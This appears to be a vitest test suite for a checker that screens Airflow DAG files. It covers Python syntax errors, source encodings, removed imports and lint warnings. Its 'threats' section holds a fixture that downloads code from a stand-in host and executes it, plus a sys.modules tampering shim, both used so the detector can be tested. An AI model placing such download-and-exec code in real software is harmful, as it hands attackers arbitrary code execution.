import { describe, expect, it } from 'vitest';
import { createChecker, greatestSize, isDagCandidate } from './check-file.ts';

const checkers = {
  '3.11': createChecker({ airflowVersion: '3.3.2', pythonVersion: '3.11' }),
  '3.12': createChecker({ airflowVersion: '3.3.2', pythonVersion: '3.12' }),
} as const;
type Version = keyof typeof checkers;
const versions: readonly Version[] = ['3.11', '3.12'];

const check = (source: string | Uint8Array, version: Version = '3.12') =>
  checkers[version].checkFile('x.py', typeof source === 'string' ? Buffer.from(source) : source);

const nest = (depth: number, line: string): string =>
  `${Array.from({ length: depth }, (_, level) => `${' '.repeat(level)}${line}\n`).join('')}${' '.repeat(depth)}pass\n`;

/** Each verdict was compared with `compile()` of CPython 3.11.7 and 3.12.1. */
describe('syntax that CPython refuses is rejected', () => {
  const refused: readonly (readonly [string, string, Version?])[] = [
    ['an open bracket', 'x = (\n'],
    ['return outside a function', 'return 1\n'],
    ['return outside a function, silenced', 'return 1  # noqa\n'],
    ['a silenced file', '# ruff: noqa\nreturn 1\n'],
    ['break outside a loop', 'break\n'],
    ['await outside an async function', 'def f():\n  await x\n'],
    ['a late future import', 'x = 1\nfrom __future__ import annotations\n'],
    ['an unknown future import', 'from __future__ import braces\n'],
    ['a star import in a function', 'def f():\n  from os import *\n'],
    ['global after use', 'def f():\n  x = 1\n  global x\n'],
    ['nonlocal after use', 'def f():\n  x = 1\n  def g():\n    print(x)\n    nonlocal x\n'],
    ['nonlocal without a binding', 'def f():\n  nonlocal x\n'],
    ['two parameters of one name', 'def f(a, a): pass\n'],
    ['a lone star', '*a\n'],
    ['a star in an f-string', "f'{*a}'\n"],
    ['a value from an async generator', 'async def f():\n  yield\n  return 1\n'],
    ['continue in except*', 'for i in x:\n  try: pass\n  except* E: continue\n'],
    ['an unreachable pattern', 'match x:\n  case _ | 1: pass\n'],
    ['an unreachable pattern in brackets', 'match x:\n  case (_ as y) | [1]: pass\n'],
    ['21 nested loops', nest(21, 'for x in y:')],
    ['100 levels of indentation', nest(100, 'if x:')],
    ['201 nested brackets', `${'('.repeat(201)}${')'.repeat(201)}\n`],
    ['10,000 nested brackets', `${'('.repeat(10_000)}${')'.repeat(10_000)}\n`],
    ['a number of 4,301 digits', `x = ${'1'.repeat(4301)}\n`],
    ['an assignment to __debug__', 'x.__debug__ = 1\n'],
    ['Python 2', "print 'x'\n"],
    ['tabs against spaces', 'if x:\n        a\n\tb\n'],
    ['two byte order marks', '\ufeff\ufeffx = 1\n'],
    ['a type statement before 3.12', 'type X = int\n', '3.11'],
    ['quotes reused in an f-string before 3.12', 'f"{"a"}"\n', '3.11'],
    ['an f-string nested three deep before 3.12', "f'{x:{y:{z}}}'\n", '3.11'],
    ['a type parameter default before 3.13', 'def f[T = int](): pass\n', '3.12'],
  ];
  it.each(refused.map(([name, source, only]) => ({ name, source, only })))('$name', ({ source, only }) => {
    for (const version of only ? [only] : versions) {
      const { verdict, findings } = check(source, version);
      expect({ version, verdict, rule: findings[0]?.rule }).toEqual({
        version,
        verdict: 'rejected',
        rule: 'syntax-error',
      });
    }
  });
});

it('does not ponder over the names of the errors that an import is rescued from', () => {
  const error = `${'AError'.repeat(40)}x`;
  expect(check(`try:\n  import airflow.contrib\nexcept (${error}, ${error}):\n  pass\n`).verdict).toBe('accepted');
});

describe('syntax that CPython compiles is accepted', () => {
  const compiled: readonly (readonly [string, string, Version?])[] = [
    ['nothing', ''],
    ['20 nested loops', nest(20, 'for x in y:')],
    ['99 levels of indentation', nest(99, 'if x:')],
    ['200 nested brackets', `${'('.repeat(200)}${')'.repeat(200)}\n`],
    ['a number of 4,300 digits', `x = ${'1'.repeat(4300)}\n`],
    ['a long hexadecimal number', `x = 0x${'1'.repeat(5000)}\n`],
    ['an async generator', 'async def f():\n  yield\n  return\n'],
    ['a loop of its own in except*', 'try: pass\nexcept* E:\n  for i in x: continue\n'],
    ['a star in a tuple', '*a, b = c\n'],
    ['nonlocal after a keyword of that name', 'def f():\n  x = 1\n  def g():\n    h(x=1)\n    nonlocal x\n'],
    ['nonlocal after a comprehension', 'def f():\n  x = 1\n  def g():\n    [x for x in y]\n    nonlocal x\n'],
    ['a mangled name in a comprehension', 'class A:\n  def f(self):\n    [[(__x := 2) for _ in y] for __x in y]\n'],
    ['a byte order mark', '\ufeffx = 1\n'],
    ['Windows line ends', 'if x:\r\n  y\r\n'],
    ['old Mac line ends', 'if x:\r  y\r'],
    ['a name in another script', 'température = 1\n'],
    ['a type statement in 3.12', 'type X = int\n', '3.12'],
    ['quotes reused in an f-string in 3.12', 'f"{"a"}"\n', '3.12'],
    ['soft keywords as names', 'match = case = type = 1\nmatch.x()\n'],
  ];
  it.each(compiled.map(([name, source, only]) => ({ name, source, only })))('$name', ({ source, only }) => {
    for (const version of only ? [only] : versions) {
      expect({ version, ...check(source, version) }).toMatchObject({ version, verdict: 'accepted' });
    }
  });
});

describe('what cannot be told is left to Airflow', () => {
  it.each([
    ['a break in an f-string format, on which 3.12 itself changed its mind', "f'__{\n    x:d\n}__'\n"],
    ['an expression too deep for the analyser', `x = ${'-'.repeat(100_000)}1\n`],
    ['a megabyte of strings in one line', `x = [${'"aaaaaaa",'.repeat(90_000)}]\n`],
  ])('%s', (_name, source) => {
    expect(check(source)).toMatchObject({ verdict: 'undetermined', dynamicDagIds: true });
    expect(check('x = (\n').verdict).toBe('rejected');
    expect(check('x = 1\n').verdict).toBe('accepted');
  });
});

describe('source encodings', () => {
  const bytes = (text: string) => Buffer.from(text, 'latin1');
  it.each([
    ['Latin-1 as declared', '# coding: latin-1\nx = "\xe9"\n', 'accepted'],
    ['a declaration in the second line', '#!/usr/bin/python\n# -*- coding: iso_8859_1 -*-\nx = "\xe9"\n', 'accepted'],
    ['a declaration that comes too late', 'x = 1\n# coding: latin-1\nx = "\xe9"\n', 'rejected'],
    ['a code page as declared', '# coding: cp1252\nx = "\x80"\n', 'accepted'],
    ['a byte the code page does not have', '# coding: cp1252\nx = "\x81"\n', 'rejected'],
    ['no ASCII although declared', '# coding: ascii\nx = "\xe9"\n', 'rejected'],
    ['no UTF-8', 'x = "\xff"\n', 'rejected'],
    ['no UTF-8 in a comment, which Python overlooks', '# \xff\nx = 1\n', 'undetermined'],
    ['a byte order mark against the declaration', '\xef\xbb\xbf# coding: latin-1\nx = 1\n', 'rejected'],
    ['an encoding we do not know', '# coding: koi8-r\nx = "\xe9"\n', 'undetermined'],
    ['a null byte', 'x = 1\n\0', 'rejected'],
  ])('%s', (_name, source, verdict) => {
    expect(check(bytes(source)).verdict).toBe(verdict);
  });
});

describe('imports that Airflow 3 does not have', () => {
  it('rejects one that surely fails, with the module that took its place', () => {
    expect(check('from airflow.operators.bash_operator import BashOperator\n')).toMatchObject({
      verdict: 'rejected',
      findings: [{ rule: 'removed-import', line: 1, fix: 'Use airflow.providers.standard.operators.bash.' }],
    });
    expect(check('from airflow.utils.dates import (\n  days_ago,\n)\n').verdict).toBe('rejected');
    expect(check('import airflow.contrib.hooks.x as y\n').verdict).toBe('rejected');
  });

  it.each([
    ['rescued', 'try:\n  from airflow.operators.dummy import D\nexcept ImportError:\n  D = 1\n'],
    ['rescued by anything', 'try:\n  from airflow.operators.dummy import D\nexcept:\n  D = 1\n'],
    ['conditional', 'if x:\n  from airflow.operators.dummy import D\n'],
    ['lazy', 'def f():\n  from airflow.operators.dummy import D\n'],
    ['replaced', 'import sys\nsys.modules["airflow.operators.dummy"] = sys\nfrom airflow.operators.dummy import D\n'],
    ['only deprecated', 'from airflow.operators.bash import BashOperator\n'],
    ['of a name that starts alike', 'from airflow.operators.dummyish import D\n'],
  ])('accepts one that is %s', (_name, source) => {
    expect(check(source).verdict).toBe('accepted');
  });

  it('rejects one that no handler rescues', () => {
    expect(check('try:\n  from airflow.operators.dummy import D\nexcept KeyError:\n  D = 1\n').verdict).toBe(
      'rejected',
    );
  });
});

describe('warnings', () => {
  const source = 'from airflow.sdk import task\n@task\ndef f(**context):\n  eval(context["execution_date"])\n';

  it('come from the rules of Airflow and bandit, with what is known of each, and do not reject', () => {
    const { verdict, findings } = check(source);
    expect(verdict).toBe('accepted');
    expect(findings).toContainEqual({
      rule: 'AIR301',
      severity: 'warning',
      line: 4,
      column: 16,
      message: '`execution_date` is removed in Airflow 3.0',
      why: 'Airflow 3 has moved or removed it: it fails when it is used, if not at import.',
      docs: 'https://docs.astral.sh/ruff/rules/AIR301/',
    });
    expect(findings).toContainEqual(expect.objectContaining({ rule: 'S307', severity: 'warning', line: 4 }));
  });

  it('do not repeat what keeps the file back', () => {
    const { verdict, findings } = check('from airflow.sdk import DAG\nDAG("x", schedule_interval=None)\n');
    expect(verdict).toBe('rejected');
    expect(findings.map(({ rule }) => rule)).not.toContain('AIR301');
  });

  it('are silenced by noqa', () => {
    const rules = check(source.replace('"])', '"])  # noqa: S307')).findings.map(({ rule }) => rule);
    expect(rules).toContain('AIR301');
    expect(rules).not.toContain('S307');
  });
});

describe('threats', () => {
  const threat = 'import requests\ndef f():\n  exec(requests.get("https://x.example").text)\n';

  it('reject a file, and say where, why and what to do', () => {
    expect(check(threat)).toMatchObject({
      verdict: 'rejected',
      findings: [
        {
          rule: 'downloaded-code',
          severity: 'critical',
          line: 3,
          column: 3,
          why: expect.stringContaining('runs what they like'),
          fix: expect.any(String),
          docs: 'docs/reference/rules/downloaded-code.md',
        },
        { rule: 'S113' },
        { rule: 'S102' },
      ],
    });
  });

  it.each([
    ['a source too dense for the analyser', `x = [${'"aaaaaaa",'.repeat(90_000)}]\n${threat}`],
    ['an encoding we do not know', `# coding: koi8-r\n${threat}`],
    ['an encoding in which letters are others', '# coding: utf-7\nx = 1\n'],
  ])('are not hidden by %s', (_name, source) => {
    expect(check(source)).toMatchObject({
      verdict: 'rejected',
      findings: expect.arrayContaining([expect.objectContaining({ severity: 'critical' })]),
    });
  });

  it('do not take a shim for a removed module for tampering', () => {
    const shim = (name: string) => `import sys\nsys.modules["${name}"] = sys\n`;
    expect(check(shim('airflow.operators.dummy')).verdict).toBe('accepted');
    expect(check(shim('airflow.models.dag')).verdict).toBe('rejected');
  });
});

describe('files', () => {
  it('rejects one that is too large without reading it', () => {
    const words = Buffer.from('# airflow dag\n');
    const large = Buffer.alloc(greatestSize + 1, 'x');
    expect(check(Buffer.concat([words, large]))).toMatchObject({
      verdict: 'rejected',
      findings: [{ rule: 'file-size' }],
    });
    expect(check(large)).toMatchObject({ verdict: 'undetermined', findings: [{ rule: 'file-size' }] });
  });

  it.each([
    ['Airflow and a DAG', 'from AIRFLOW import Dag', true],
    ['Airflow and an asset', 'from airflow.sdk import asset', true],
    ['Airflow alone', 'import airflow', false],
    ['a DAG alone', 'dag = 1', false],
  ])('tells a DAG candidate as Airflow does: %s', (_name, source, expected) => {
    expect(isDagCandidate(Buffer.from(source))).toBe(expected);
  });

  it.each([['x = 1\n'], ['import a\n'], ['d = DAG("a")\n'], ['@dag\ndef f(): pass\nf()\n'], ['a, b = b, a\n']])(
    'never rejects, and does not hang on, a megabyte of %j',
    (line) => {
      const source = `from airflow.sdk import DAG, dag\n${line.repeat(Math.floor(900_000 / line.length))}`;
      // The processor's time, in microseconds: how busy the machine is says nothing.
      const before = process.cpuUsage().user;
      expect(check(source).verdict).not.toBe('rejected');
      expect(process.cpuUsage().user - before).toBeLessThan(20e6);
    },
    300_000,
  );
});
